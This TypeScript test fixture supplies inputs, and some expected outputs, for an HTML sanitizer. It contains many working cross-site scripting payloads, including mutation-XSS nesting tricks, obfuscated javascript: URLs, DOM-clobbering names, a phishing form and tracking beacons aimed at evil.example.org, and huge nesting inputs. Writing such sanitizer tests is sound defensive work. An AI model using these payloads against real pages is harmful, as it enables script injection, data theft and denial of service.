import { bodies } from './body.ts';

const deep = (times: number, open: string, inside = 'words', close = ''): string =>
  open.repeat(times) + inside + close.repeat(times);

/** Puts its mark on the page, should it ever run. */
const run = 'window.hacked=1';

/** Things that must not run, and ways to hide them. */
export const runningBodies = bodies({
  script: `<p>a</p><script>${run}</script><p>b</p>`,
  'script in other letters': `<p>a</p><ScRiPt src="//evil.example.org/x.js"></sCrIpT><p>b</p>`,
  'script that is not closed': `<p>a</p><script>${run}<p>b</p>`,
  'script in a comment': `<p>a</p><!-- <script>${run}</script> --><p>b</p>`,
  'script after a broken comment': `<p>a</p><!--><script>${run}</script>--><p>b</p>`,
  'script in a bogus comment': `<p>a</p><?php <script>${run}</script> ?><p>b</p>`,
  'script in a doctype': `<!doctype html [ <script>${run}</script> ]><p>b</p>`,
  'script in CDATA': `<p>a</p><![CDATA[<script>${run}</script>]]><p>b</p>`,
  'script in an attribute': `<p title="</p><script>${run}</script>">a</p>`,
  'script in a drawing': `<svg><script>${run}</script><text>a</text></svg><p>b</p>`,
  'script with a null byte': `<p>a</p><scr\u0000ipt>${run}</scr\u0000ipt><p>b</p>`,
  'handlers of every kind': `<p onclick=${run} onmouseover=${run} onfocus=${run} onanimationstart=${run} onbeforetoggle=${run}>a</p>`,
  'handler of a picture': `<img src="images/none.png" onerror="${run}" alt="boat">`,
  'handler after a slash': `<img/src="data:,"/onerror=${run}/alt=boat>`,
  'handler of a body': `<body onload="${run}"><p>a</p></body>`,
  'handler of details': `<details open ontoggle="${run}"><summary>a</summary>b</details>`,
  'handler of a marquee': `<marquee onstart="${run}">a</marquee>`,
  'handler of a video': `<video onerror="${run}"><source onerror="${run}" src="x:">a</video><p>b</p>`,
  'javascript address': `<a href="javascript:${run}">a</a>`,
  'javascript in capitals': `<a href="JaVaScRiPt:${run}">a</a>`,
  'javascript by entities': `<a href="&#106;avascript&colon;${run}">a</a>`,
  'javascript with tabs and lines': `<a href="java&Tab;scr\nipt:${run}">a</a>`,
  'javascript after control characters': `<a href="\u0001\u0002 javascript:${run}">a</a>`,
  'javascript in a base': `<base href="javascript:/a/"><a href="b">a</a>`,
  'vbscript and data': `<a href="vbscript:msgbox(1)">a</a> <a href="data:text/html,<script>${run}</script>">b</a> <a href="blob:x">c</a> <a href="file:///etc/passwd">d</a>`,
  'javascript in an area': `<map name="m"><area href="javascript:${run}" alt="x"></map><p>a</p>`,
  'javascript in a drawn link': `<svg><a xlink:href="javascript:${run}"><text y="20">a</text></a></svg>`,
  'animated address': `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>a</text></a></svg>`,
  'set of an address': `<svg><set attributeName="onmouseover" to="${run}"/></svg><p>a</p>`,
  'meta that refreshes': `<meta http-equiv="refresh" content="0;url=javascript:${run}"><p>a</p>`,
  'frame with a document': `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><p>a</p>`,
  'object and embed': `<object data="data:text/html,<script>${run}</script>"></object><embed src="javascript:${run}"><p>a</p>`,
  'frames of old': `<frameset><frame src="javascript:${run}"></frameset><p>a</p>`,
  'import by a link': `<link rel="import" href="data:text/html,x"><link rel="modulepreload" href="/x.js"><p>a</p>`,
});

/** Markup that one parser reads otherwise than the next, or otherwise the second time. */
export const mutatingBodies = bodies({
  'style in a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'formula text': `<math><mtext><option><mglyph><svg><mtext><style><a title="</style><img src onerror=${run}>"></style></mtext></svg></mglyph></option></mtext></math>`,
  'annotation with HTML': `<math><annotation-xml encoding="text/html"><p>in</p><script>${run}</script></annotation-xml></math><p>a</p>`,
  'HTML in a drawing': `<svg><foreignObject><p>in</p><img src onerror=${run}></foreignObject></svg><p>a</p>`,
  'style in a drawing': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'title in a drawing': `<svg><title><p title="</title><img src onerror=${run}>"></title></svg><p>a</p>`,
  'desc in a drawing': `<svg><desc><table><tr><td><script>${run}</script></td></tr></table></desc></svg><p>a</p>`,
  'noscript and its end': `<noscript><p title="</noscript><img src onerror=${run}>"></noscript><p>a</p>`,
  'noembed and its end': `<noembed><p title="</noembed><img src=x: alt=i onerror=${run}>"></noembed><p>a</p>`,
  'noframes and its end': `<noframes><p title="</noframes><img src=x: alt=i onerror=${run}>"></noframes><p>a</p>`,
  'xmp and its end': `<xmp><p title="</xmp><img src=x: alt=i onerror=${run}>"></xmp><p>a</p>`,
  'textarea and its end': `<textarea><p title="</textarea><img src=x: alt=i onerror=${run}>"></textarea><p>a</p>`,
  'title and its end': `<title><p title="</title><img src=x: alt=i onerror=${run}>"></title><p>a</p>`,
  'iframe and its end': `<iframe><p title="</iframe><img src=x: alt=i onerror=${run}>"></iframe><p>a</p>`,
  plaintext: `<p>a</p><plaintext><b>b</b><script>${run}</script>`,
  listing: `<listing>&lt;img src onerror=${run}&gt;</listing>`,
  'template inside': `<template><script>${run}</script><p>b</p></template><p>a</p>`,
  'shadow root declared': `<div><template shadowrootmode="open"><p>b</p><script>${run}</script></template>a</div>`,
  'select that holds markup': `<select><option><p>in</p><script>${run}</script></option></select><p>a</p>`,
  'table that lets things out': `<table><p>out</p><tr><td>in</td><img src=x: alt=pic onerror=${run}></tr>tail</table>`,
  'forms in forms': `<form id="a"><form id="b"><p>x</p><input name="c"></form><button formaction="javascript:${run}">y</button></form><p>a</p>`,
  'form that closes elsewhere': `<form><div></form><form><p>x</p></div></form><p>a</p>`,
  'formatting that is adopted': '<p><b>a<i>b</p><p>c</b>d</i>e</p>',
  'links in links': '<a href="https://a.example.org/">a<a href="https://b.example.org/">b</a>c</a>',
  'paragraph that a list ends': '<p>a<ul><li>b<p>c</ul>d',
  'headings in headings': '<h2>a<h3>b</h3>c</h2>',
  'everything unclosed': '<section><p>a<strong>b<em>c<ul><li>d<table><tr><td>e',
  'end tags alone': '</p></div></br></script>a</section>',
  'image for img': `<image src="images/wide.svg" alt="boat" onerror=${run}>`,
  'html, head and body': `<html lang="de" onclick=${run}><head><title>t</title><style>*{}</style></head><body dir="rtl" class="x"><p>a</p></body></html><p>b</p>`,
  'null bytes': '<p>a\u0000b</p><p ti\u0000tle="x">c</p>',
  'attributes twice': '<p title="a" title="b" TITLE="c">x</p>',
  'half a pair': '<p>a\ud800b</p>',
  'table in a table': '<table><tr><td>a<table><tr><td>b</table></table>',
  'caption out of place': '<table><tr><caption>c</caption><td>a</td></tr></table>',
  'cells without a table': '<td>a</td><tr><td>b</td></tr><tbody>c</tbody>',
  ruby: '<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>',
  'a drawing that breaks out': `<svg><p>a</p><b>b</b><script>${run}</script></svg>`,
  'a formula that breaks out': '<math><p>a</p><table><tr><td>b</td></tr></table></math>',
  'namespaces by prefix': '<svg:script>x</svg:script><xml:p>a</xml:p><p xml:lang="de" xlink:href="x">b</p>',
});

/** What reaches out, looks like the page, or takes its names. */
export const reachingBodies = bodies({
  'classes, styles, data':
    '<p class="root" style="position:fixed;inset:0" data-x="1" name="x" part="letter" slot="thanks">a</p>',
  'a style sheet':
    '<style>:host{display:none}</style><link rel="stylesheet" href="//evil.example.org/x.css"><p>a</p>',
  'ARIA and roles':
    '<p role="alert" aria-live="assertive" aria-hidden="true" aria-labelledby="x" tabindex="0" accesskey="s">a</p>',
  'things that move the focus':
    '<p contenteditable="true" autofocus popover inert draggable="true" hidden>a</p>',
  'a form':
    '<form action="//evil.example.org/"><label>Code <input name="code" autofocus></label><button>Send</button></form><p>a</p>',
  'controls alone':
    '<button>a</button><select><option>b</option></select><textarea>c</textarea><input value="d"><output>e</output><meter value="1">f</meter><progress value="1">g</progress><p>h</p>',
  'fieldset and label': '<fieldset><legend>a</legend><label for="x">b</label></fieldset>',
  media:
    '<video src="/v.mp4" autoplay poster="//evil.example.org/p">a</video><audio src="/a.mp3" autoplay>b</audio><track src="/t"><source src="/s"><p>c</p>',
  'pictures from elsewhere':
    '<p><img src="//evil.example.org/p.gif" alt="one"><img src="http://evil.example.org/p.gif" width="1" height="1" alt=""><img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" alt="two"></p>',
  'pictures with sources':
    '<picture><source srcset="//evil.example.org/a.png 2x"><img src="images/wide.svg" srcset="//evil.example.org/b.png 2x" sizes="100vw" alt="boat" usemap="#m" ismap longdesc="//evil.example.org/" crossorigin referrerpolicy="unsafe-url" fetchpriority="high" decoding="sync" loading="eager"></picture>',
  'old backgrounds':
    '<table background="//evil.example.org/b.gif" bgcolor="red" border="9" cellpadding="99"><tr><td background="//evil.example.org/c.gif" nowrap align="right" valign="top" width="9999">a</td></tr></table>',
  'links that tell':
    '<a href="https://a.example.org/" ping="//evil.example.org/" target="_top" rel="opener" download="x" referrerpolicy="unsafe-url" attributionsrc="//evil.example.org/" hreflang="de" type="text/html">a</a>',
  'links of all kinds that lead nowhere':
    '<a href="">a</a> <a href="#">b</a> <a>c</a> <a href=" # ">d</a> <a href="https://u:p@a.example.org/">e</a> <a href="http://">f</a> <a href="//">g</a>',
  'a link to itself by name': '<a name="x">a</a><a href="#x">b</a>',
  'sources that are not pictures': [
    '<p href="https://a.example.org/" src="https://evil.example.org/x">a</p><q cite="//evil.example.org/">b</q><p src="/x">c</p>',
    '<p>a</p><q>b</q><p>c</p>',
  ],
  'names of the page':
    '<p id="body">a</p><p id="forms">b</p><p id="__proto__">c</p><p id="constructor">d</p><p id="location">e</p>',
  'names of ours':
    '<p id="goal">a</p><p id="query">b</p><p id="t-x">c</p><p id="s-1">d</p><a href="#goal">e</a>',
  'names of what an element has':
    '<section id="a"><p id="attributes">x</p><p id="nodeName">y</p><p id="parentNode">z</p><p id="childNodes">w</p></section>',
  'names in a form':
    '<form id="f"><input name="attributes"><input name="nodeName"><input name="parentNode"><input name="removeChild"><p>a</p></form>',
  'elements of ours':
    '<open-letter src="//evil.example.org/letter.json">a</open-letter><slot name="thanks">b</slot><div data-open-letter data-src="//evil.example.org/x.json">c</div>',
  'elements of the page':
    '<x-card onclick=x>a</x-card><p is="x-p">b</p><dialog open>c</dialog><marquee>d</marquee><blink>e</blink>',
  'other elements, but their words':
    '<article><header>a</header><main>b</main><aside>c</aside><footer>d</footer><nav>e</nav><center>f</center><font color="red">g</font><u>h</u><mark>i</mark><time datetime="2026">j</time><kbd>k</kbd><var>l</var><del>m</del><ins>n</ins><address>o</address></article>',
  'things nested in what goes':
    '<object><p>a</p></object><button><p>b</p></button><canvas><p>c</p></canvas><p>d</p>',
  'sizes out of bounds':
    '<ol start="99999999999999999999"><li>a</li></ol><table><tr><td colspan="100000" rowspan="-1">b</td></tr></table><img src="images/wide.svg" alt="c" width="99999999" height="-5">',
  'languages that are none': '<p lang="javascript:x" dir="sideways">a</p><p lang="">b</p>',
  'a table of contents that clobbers': '<h2 id="toString">a</h2><p><a href="#toString">b</a></p>',
  'right-to-left override': '<p>a \u202e gnp.exe \u202c b \u2067c</p>',
  'ids that are odd': '<p id="">a</p><p id=" ">b</p><p id="a b">c</p><p id="a&quot;b">d</p><p id="%41">e</p>',
  'portal, fenced frame, param, applet':
    '<portal src="//evil.example.org/"></portal><fencedframe></fencedframe><applet code="x"><param name="a" value="b">c</applet><p>d</p>',
  'old text kinds':
    '<dir><li>a</li></dir><menu><li>b</li></menu><tt>c</tt><big>d</big><strike>e</strike><acronym title="x">f</acronym><nobr>g</nobr><isindex prompt="h">',
  'a base and a link':
    '<base href="//evil.example.org/"><a href="more.html">a</a><img src="images/wide.svg" alt="boat">',
});

/** What brings down or empties what looks at it: names that stand in for properties, what no attribute shows. */
export const misleadingBodies = bodies({
  'handlers that only a whole page has': [
    `<p onstart=${run} onfinish=${run} onpagereveal=${run} onreadystatechange=${run} ontransitionrun=${run}>a</p>`,
    '<p>a</p>',
  ],
  'a picture called body': ['<img name="body" alt="boat"><p>a</p>', 'boat<p>a</p>'],
  'pictures called as a document’s own': [
    '<img name="documentElement" alt="boat"><img name="createDocumentFragment" alt="b"><img name="write" alt="c"><p>a</p>',
    'boatbc<p>a</p>',
  ],
  'forms called as a document’s own': [
    '<form name="body"></form><form name="implementation"></form><form name="createElement"><p>a</p></form>',
    '<p>a</p>',
  ],
  'pictures called as a form’s own': [
    '<form><img name="childNodes" alt="1"><img name="localName" alt="2"><img name="nodeType" alt="3"><img name="replaceWith" alt="4"><img name="getAttributeNames" alt="5"><p>a</p></form>',
    '12345<p>a</p>',
  ],
  'controls called as a form’s own': [
    '<form><input name="firstChild"><input id="nextSibling"><button name="attributes"></button><p>a</p></form>',
    '<p>a</p>',
  ],
  'shadow roots of what may stay': [
    '<p><template shadowrootmode="open"><img src="//evil.example.org/1"><slot></slot></template>a</p><section><template shadowrootmode="closed"><h1>shown</h1></template>b</section><blockquote><template shadowrootmode="open" shadowrootclonable shadowrootserializable><p style="position:fixed">c</p></template></blockquote>',
    '<p>a</p><section>b</section><blockquote></blockquote>',
  ],
  'a class of the page’s own': ['<p is="x-paragraph">a</p><h2 is="x-heading">b</h2>', '<p>a</p><h2>b</h2>'],
  'parts of drawings without a drawing': [
    '<circle>a</circle><text>b</text><desc>c</desc><mi>d</mi><foreignObject>e</foreignObject>',
    'abcde',
  ],
  'markup in the words of a title': [
    '<p><abbr title="--&gt;&lt;/style&gt;&lt;img src=x&gt;">a</abbr></p>',
    '<p><abbr title="--&gt;&lt;/style&gt;&lt;img src=x&gt;">a</abbr></p>',
  ],
  'a paragraph that a table ends': [
    '<p>a<table><tr><td>b</table>',
    '<p>a</p><table><tbody><tr><td>b</td></tr></tbody></table>',
  ],
  'what belongs to a head': [
    '\n<!-- x --><title>a</title><meta name="x"><link href="y"><base href="//evil.example.org/"><p>b</p>',
    '\na<p>b</p>',
  ],
  'links inside, wrapped in what nobody sees': [
    '<a href="\t#end">a</a> <a href="#\nend">b</a> <a href="\u0001#">c</a> <a href="&#9;&#10;">d</a> <a href=" \u001f#end ">e</a> <a href="\u001f #end \u001f">f</a>',
    '<a href="#t-end">a</a> <a href="#t-end">b</a> c d <a href="#t-end">e</a> <a href="#t-end">f</a>',
  ],
  'places to be led to': [
    '<a id="a" href="#">1</a> <a id="b">2</a> <a id="" href="">3</a> <a id="c d">4</a>',
    '<a id="t-a">1</a> <a id="t-b">2</a> 3 4',
  ],
  'pictures without an address': [
    '<p><img alt="a"><img src="" alt="b"><img src=" " alt="c"><img src="http://" alt="d"><img></p>',
    '<p>abcd</p>',
  ],
  'sizes on what is no picture': [
    '<hr width="9999"><table width="9999" height="9999"><tr><td width="9999" height="9999">a</td></tr></table><pre width="9999">b</pre>',
    '<hr><table><tbody><tr><td>a</td></tr></tbody></table><pre>b</pre>',
  ],
  'numbers that are none or too large': [
    '<ol start="1e9"><li>a</li></ol><ol start="10000"><li>b</li></ol><table><tr><td colspan="10000" rowspan="x">c</td><td colspan="">d</td></tr></table><img src="images/wide.svg" alt="" width="10000" height="100%">',
    '<ol><li>a</li></ol><ol><li>b</li></ol><table><tbody><tr><td>c</td><td>d</td></tr></tbody></table><img crossorigin="anonymous" loading="lazy" referrerpolicy="no-referrer" src="FEED/images/wide.svg" alt="">',
  ],
  'attributes that act': [
    '<p command="close" commandfor="x" popovertarget="x" exportparts="a" nonce="x" anchor="x" interestfor="x" shadowrootmode="open" itemprop="x" xmlns="x" vocab="x">a</p>',
    '<p>a</p>',
  ],
  'spaces around': ['<p title="  a  " id=" b ">c</p>', '<p title="a" id="t-b">c</p>'],
  'what must go, one inside the other': [
    '<div><object><p>a</p><video><p>b</p></video></object><font>c<button>d</button></font></div>',
    'c',
  ],
  'a picture from another scheme or port': [
    '<img src="ftp://localhost/a" alt="a"><img src="//localhost:1/b" alt="b"><img src="blob:ORIGIN/c" alt="c"><img src="filesystem:d" alt="d">',
    'abcd',
  ],
  'headings of every level': [
    '<h1 id="a">a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>',
    '<h2 id="t-a">a</h2><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>',
  ],
});

/** With all they hold; two more, `embed` and `input`, hold nothing. */
export const goneBodies = bodies(
  Object.fromEntries(
    'script style template noscript iframe object svg math audio video canvas button select textarea option optgroup datalist output meter progress'
      .split(' ')
      .map((name) => [
        `${name} and its words`,
        [`<p>a</p><${name}>words</${name}><p>b</p>`, '<p>a</p><p>b</p>'],
      ]),
  ),
);

/** Deep, but no more than a page can bear. */
export const deepBodies = bodies({
  'quotes 500 deep': deep(500, '<blockquote>', '<p>words</p>', '</blockquote>'),
  'lists 300 deep': deep(300, '<ul><li>'),
  'marks 700 deep': deep(700, '<b>', 'words', '</b>'),
  'unknown elements 700 deep': deep(700, '<x>', '<p>words</p>', '</x>'),
  'tables 150 deep': deep(150, '<table><tr><td>'),
});

const many = 100_000;

/** More than any page could bear, below the largest size that is read. */
export const hugeBodies = bodies({
  'marks left open': deep(many, '<b>'),
  'lists in lists': deep(50_000, '<ul><li>'),
  'lists in definitions': deep(60_000, '<li><dd>'),
  'quotes in quotes': deep(40_000, '<blockquote>'),
  'unknown elements': deep(many, '<x>'),
  'blocks with their ends': deep(46_000, '<div>', 'words', '</div>'),
  'tables in tables': deep(30_000, '<table><tr><td>'),
  'drawings in drawings': deep(80_000, '<svg>'),
  'templates in templates': deep(40_000, '<template>'),
  'templates in templates, in other letters': deep(40_000, '<tEmplate>'),
  'forms and blocks': deep(40_000, '<form><div>'),
  'links left open': deep(30_000, '<a href="#x"><i>'),
  'marks that come back in every paragraph':
    Array.from({ length: 1_000 }, (_, index) => `<b id=${index}>`).join('') + deep(50_000, '<p>x'),
  'a few marks that come back very often': `<div>${deep(3, '<b><big><code><em><font><i><nobr><s><small><strong><tt><u>', '')}</div>${deep(10_000, '<p>x')}`,
  'a name for every method': `<img name="write"><img name="createTreeWalker">${deep(40_000, '<b>')}`,
});
